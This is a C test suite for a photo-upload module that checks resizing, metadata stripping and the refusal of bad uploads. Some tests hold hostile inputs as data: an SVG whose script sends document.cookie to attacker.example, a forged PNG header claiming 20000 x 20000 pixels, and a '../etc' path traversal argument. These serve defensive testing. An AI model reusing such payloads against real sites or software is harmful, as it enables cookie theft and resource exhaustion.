/*
 * media: photos in, renditions out. Every input is made here with libvips
 * or by hand (the PNG header), so there are no binary fixtures.
 */
#include <criterion/criterion.h>
#include <dirent.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <vips/vips.h>
#include <zlib.h>

#include "media/media.h"

static char dir[64];

static void
setup(void)
{
    cr_assert_eq(media_init(), 0);
    cr_assert_eq(media_init(), 0, "media_init is idempotent");
    snprintf(dir, sizeof(dir), "/tmp/bs-media-XXXXXX");
    cr_assert_not_null(mkdtemp(dir));
}

static void
teardown(void)
{
    DIR *d = opendir(dir);
    for (struct dirent *e = d ? readdir(d) : NULL; e != NULL; e = readdir(d)) {
        char path[512];
        snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
        if (e->d_name[0] != '.' || strlen(e->d_name) > 2)
            unlink(path);
    }
    if (d)
        closedir(d);
    rmdir(dir);
    media_shutdown();
}

TestSuite(media, .init = setup, .fini = teardown);

/* Every entry of the media folder, temporary files included. */
static int
count_files(void)
{
    int n = 0;
    DIR *d = opendir(dir);
    cr_assert_not_null(d);
    for (struct dirent *e = readdir(d); e != NULL; e = readdir(d))
        if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0)
            n++;
    closedir(d);
    return n;
}

/* A picture with something in it (a diagonal gradient), width x height,
 * 3 bands, or 4 with alpha. The caller unrefs. */
static VipsImage *
picture(int width, int height, bool alpha)
{
    VipsImage *xyz, *sum, *rgb, *out;
    cr_assert_eq(vips_xyz(&xyz, width, height, NULL), 0);
    VipsImage *bands[2];
    vips_extract_band(xyz, &bands[0], 0, NULL);
    vips_extract_band(xyz, &bands[1], 1, NULL);
    vips_add(bands[0], bands[1], &sum, NULL);
    VipsImage *ch[4];
    vips_linear1(sum, &ch[0], 255.0 / (width + height), 0, NULL);
    vips_linear1(bands[0], &ch[1], 255.0 / width, 0, NULL);
    vips_linear1(bands[1], &ch[2], 255.0 / height, 0, NULL);
    vips_linear1(bands[1], &ch[3], 0, 128, NULL);
    vips_bandjoin(ch, &rgb, alpha ? 4 : 3, NULL);
    vips_cast_uchar(rgb, &out, NULL);
    VipsImage *mem = vips_image_copy_memory(out);
    VipsImage *all[] = {xyz, sum, rgb, out, bands[0], bands[1], ch[0], ch[1], ch[2], ch[3]};
    for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++)
        g_object_unref(all[i]);
    vips_image_set_int(mem, "orientation", 1);
    return mem;
}

/* Adds the metadata a phone would: EXIF with a name in it, XMP, an
 * orientation. */
static void
add_metadata(VipsImage *img, int orientation)
{
    vips_image_set_int(img, "orientation", orientation);
    vips_image_set_string(img, "exif-ifd0-Artist", "Jane Secret");
    static const char xmp[] = "<x:xmpmeta xmlns:x='adobe:ns:meta/'>Jane Secret</x:xmpmeta>";
    vips_image_set_blob_copy(img, "xmp-data", xmp, sizeof(xmp) - 1);
}

struct bytes {
    void *p;
    size_t n;
};

static struct bytes
encode(VipsImage *img, const char *format)
{
    struct bytes b = {0};
    int rc = -1;
    if (strcmp(format, "jpeg") == 0)
        rc = vips_jpegsave_buffer(img, &b.p, &b.n, "Q", 90, "profile", "srgb", NULL);
    else if (strcmp(format, "png") == 0)
        rc = vips_pngsave_buffer(img, &b.p, &b.n, NULL);
    else if (strcmp(format, "webp") == 0)
        rc = vips_webpsave_buffer(img, &b.p, &b.n, NULL);
    else if (strcmp(format, "gif") == 0)
        rc = vips_gifsave_buffer(img, &b.p, &b.n, NULL);
    cr_assert_eq(rc, 0, "encode %s: %s", format, vips_error_buffer());
    return b;
}

static struct bytes
make_image(int width, int height, const char *format, bool alpha, int orientation)
{
    VipsImage *img = picture(width, height, alpha);
    if (orientation)
        add_metadata(img, orientation);
    struct bytes b = encode(img, format);
    g_object_unref(img);
    return b;
}

static bool
file_contains(const char *path, const char *needle)
{
    FILE *f = fopen(path, "rb");
    cr_assert_not_null(f, "missing %s", path);
    static char data[4 << 20];
    size_t n = fread(data, 1, sizeof(data), f);
    fclose(f);
    return memmem(data, n, needle, strlen(needle)) != NULL;
}

/* Opens one stored rendition and checks its size and that it carries no
 * metadata at all. */
static void
check_rendition(const struct media_photo *p, int width, const char *ext, int height)
{
    char path[512];
    snprintf(path, sizeof(path), "%s/%s-%d.%s", dir, p->name, width, ext);
    cr_assert_eq(access(path, R_OK), 0, "missing %s", path);
    VipsImage *img = vips_image_new_from_file(path, NULL);
    cr_assert_not_null(img, "%s: %s", path, vips_error_buffer());
    cr_expect_eq(img->Xsize, width, "%s is %d wide", path, img->Xsize);
    if (height)
        cr_expect_eq(img->Ysize, height, "%s is %d high", path, img->Ysize);
    cr_expect_eq(img->Bands, 3, "%s: sRGB without alpha", path);
    const char *gone[] = {"exif-data", "xmp-data", "icc-profile-data", "iptc-data"};
    for (size_t i = 0; i < sizeof(gone) / sizeof(gone[0]); i++)
        cr_expect_eq(vips_image_get_typeof(img, gone[i]), 0, "%s still has %s", path, gone[i]);
    int orientation = 1;
    if (vips_image_get_typeof(img, "orientation"))
        vips_image_get_int(img, "orientation", &orientation);
    cr_expect_eq(orientation, 1, "%s keeps an orientation tag", path);
    g_object_unref(img);
    cr_expect(!file_contains(path, "Jane Secret"), "%s still carries the EXIF artist", path);
}

static void
check_all(const struct media_photo *p, const int *widths, const int *heights, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        check_rendition(p, widths[i], "webp", heights[i]);
        check_rendition(p, widths[i], "jpg", heights[i]);
    }
    cr_expect_eq(count_files(), (int)(2 * n), "only the renditions, no temporary files");
}

static int
store(struct bytes b, const struct media_limits *lim, struct media_photo *p, char *err)
{
    err[0] = '\0';
    return media_photo_store(dir, b.p, b.n, lim, p, err, 256);
}

Test(media, jpeg_is_turned_upright_resized_and_stripped)
{
    /* 1600 x 1000 on the sensor, orientation 6: upright it is 1000 x 1600 */
    struct bytes b = make_image(1600, 1000, "jpeg", false, 6);
    struct media_photo p;
    char err[256];
    cr_assert_eq(store(b, NULL, &p, err), 0, "%s", err);
    g_free(b.p);
    cr_expect(strncmp(p.name, "p-", 2) == 0 && strlen(p.name) == 18, "name %s", p.name);
    cr_expect_str_eq(p.widths, "360 720");
    cr_expect_eq(p.width, 720);
    cr_expect_eq(p.height, 1152);
    check_all(&p, (int[]){360, 720}, (int[]){576, 1152}, 2);
}

Test(media, png_with_alpha_and_metadata)
{
    struct bytes b = make_image(1500, 900, "png", true, 1);
    struct media_photo p;
    char err[256];
    cr_assert_eq(store(b, NULL, &p, err), 0, "%s", err);
    g_free(b.p);
    cr_expect_str_eq(p.widths, "360 720 1200");
    cr_expect_eq(p.width, 1200);
    cr_expect_eq(p.height, 720);
    check_all(&p, (int[]){360, 720, 1200}, (int[]){216, 432, 720}, 3);
}

Test(media, webp_wider_than_the_largest_width)
{
    struct bytes b = make_image(2400, 1000, "webp", false, 0);
    struct media_photo p;
    char err[256];
    cr_assert_eq(store(b, NULL, &p, err), 0, "%s", err);
    g_free(b.p);
    cr_expect_str_eq(p.widths, "360 720 1200");
    check_all(&p, (int[]){360, 720, 1200}, (int[]){150, 300, 500}, 3);
}

Test(media, small_image_is_never_upscaled)
{
    struct bytes b = make_image(300, 200, "jpeg", false, 0);
    struct media_photo p;
    char err[256];
    cr_assert_eq(store(b, NULL, &p, err), 0, "%s", err);
    g_free(b.p);
    cr_expect_str_eq(p.widths, "300");
    cr_expect_eq(p.width, 300);
    cr_expect_eq(p.height, 200);
    check_all(&p, (int[]){300}, (int[]){200}, 1);
}

Test(media, remove_deletes_every_rendition)
{
    struct bytes b = make_image(800, 500, "jpeg", false, 0);
    struct media_photo p, q;
    char err[256];
    cr_assert_eq(store(b, NULL, &p, err), 0, "%s", err);
    cr_assert_eq(store(b, NULL, &q, err), 0, "%s", err);
    g_free(b.p);
    cr_assert_str_neq(p.name, q.name);
    cr_assert_eq(count_files(), 8);
    media_photo_remove(dir, p.name);
    cr_expect_eq(count_files(), 4, "only the other photo's files are left");
    media_photo_remove(dir, "../etc");
    media_photo_remove(dir, q.name);
    cr_expect_eq(count_files(), 0);
}

/* Checks that a store call fails, says what is wrong, and leaves no file. */
static void
expect_refused(const void *data, size_t len, const struct media_limits *lim, const char *phrase)
{
    struct media_photo p;
    char err[256] = "";
    int rc = media_photo_store(dir, data, len, lim, &p, err, sizeof(err));
    cr_expect_eq(rc, -1, "accepted; expected '%s'", phrase);
    cr_expect(strstr(err, phrase) != NULL, "message '%s' lacks '%s'", err, phrase);
    cr_expect_eq(count_files(), 0, "a refused upload left files behind");
}

Test(media, text_file_is_refused)
{
    static const char text[] = "Minutes of the editorial meeting, Tuesday.\nPresent: everyone.\n";
    expect_refused(text, sizeof(text) - 1, NULL, "not a JPEG, PNG or WebP image");
}

Test(media, empty_file_is_refused)
{
    expect_refused("", 0, NULL, "empty");
}

Test(media, truncated_jpeg_is_refused)
{
    struct bytes b = make_image(1200, 800, "jpeg", false, 0);
    expect_refused(b.p, b.n / 2, NULL, "truncated");
    g_free(b.p);
}

Test(media, truncated_png_is_refused)
{
    struct bytes b = make_image(600, 400, "png", false, 0);
    expect_refused(b.p, b.n * 2 / 3, NULL, "truncated");
    g_free(b.p);
}

static void
put32(unsigned char *p, uint32_t v)
{
    p[0] = (unsigned char)(v >> 24);
    p[1] = (unsigned char)(v >> 16);
    p[2] = (unsigned char)(v >> 8);
    p[3] = (unsigned char)v;
}

/* Appends one PNG chunk (length, type, data, CRC over type and data). */
static size_t
png_chunk(unsigned char *out, const char *type, const unsigned char *data, uint32_t n)
{
    put32(out, n);
    memcpy(out + 4, type, 4);
    if (n)
        memcpy(out + 8, data, n);
    uLong crc = crc32(0L, out + 4, 4 + n);
    put32(out + 8 + n, (uint32_t)crc);
    return 12 + n;
}

/* A valid PNG signature and header claiming width x height, with a tiny
 * IDAT, as a hostile upload would send. */
static size_t
png_claiming(unsigned char *out, uint32_t width, uint32_t height)
{
    static const unsigned char sig[8] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};
    memcpy(out, sig, 8);
    size_t n = 8;
    unsigned char ihdr[13] = {0};
    put32(ihdr, width);
    put32(ihdr + 4, height);
    ihdr[8] = 8; /* bit depth */
    ihdr[9] = 2; /* RGB */
    n += png_chunk(out + n, "IHDR", ihdr, 13);
    unsigned char raw[64] = {0}, z[128];
    uLongf zlen = sizeof(z);
    cr_assert_eq(compress(z, &zlen, raw, sizeof(raw)), Z_OK);
    n += png_chunk(out + n, "IDAT", z, (uint32_t)zlen);
    n += png_chunk(out + n, "IEND", NULL, 0);
    return n;
}

Test(media, png_header_claiming_20000_square_is_refused_before_decoding)
{
    unsigned char png[256];
    size_t n = png_claiming(png, 20000, 20000);
    expect_refused(png, n, NULL, "20000 x 20000 pixels");
}

Test(media, pixel_count_limit_applies)
{
    unsigned char png[256];
    size_t n = png_claiming(png, 9000, 9000); /* each side fits, 81 megapixels do not */
    expect_refused(png, n, NULL, "81 megapixels");
    struct media_limits lim = {.max_side = 500};
    struct bytes b = make_image(600, 300, "png", false, 0);
    expect_refused(b.p, b.n, &lim, "600 x 300 pixels");
    g_free(b.p);
}

Test(media, svg_with_script_is_refused)
{
    static const char svg[] =
        "<?xml version=\"1.0\"?>\n"
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"300\">"
        "<script>document.location='https://attacker.example/?c='+document.cookie</script>"
        "<rect width=\"400\" height=\"300\" fill=\"red\"/></svg>\n";
    expect_refused(svg, sizeof(svg) - 1, NULL, "upload a JPEG, PNG or WebP image");
}

Test(media, gif_is_refused_by_name)
{
    struct bytes b = make_image(120, 80, "gif", false, 0);
    expect_refused(b.p, b.n, NULL, "GIF");
    g_free(b.p);
}

Test(media, upload_over_max_bytes_is_refused)
{
    struct bytes b = make_image(1000, 700, "jpeg", false, 0);
    struct media_limits lim = {.max_bytes = b.n - 1};
    expect_refused(b.p, b.n, &lim, "the limit is");
    g_free(b.p);
}

struct worker {
    struct bytes in;
    struct media_photo out;
    int rc;
};

static void *
store_thread(void *arg)
{
    struct worker *w = arg;
    char err[256];
    w->rc = media_photo_store(dir, w->in.p, w->in.n, NULL, &w->out, err, sizeof(err));
    return NULL;
}

Test(media, stores_from_several_threads)
{
    struct worker w[3];
    pthread_t t[3];
    for (int i = 0; i < 3; i++) {
        w[i] = (struct worker){.in = make_image(700 + 100 * i, 400, "jpeg", false, 0)};
        pthread_create(&t[i], NULL, store_thread, &w[i]);
    }
    for (int i = 0; i < 3; i++) {
        pthread_join(t[i], NULL);
        g_free(w[i].in.p);
        cr_expect_eq(w[i].rc, 0);
    }
    cr_expect_str_eq(w[0].out.widths, "360");
    cr_expect_str_eq(w[1].out.widths, "360 720");
    cr_expect_eq(count_files(), 2 * (1 + 2 + 2));
}
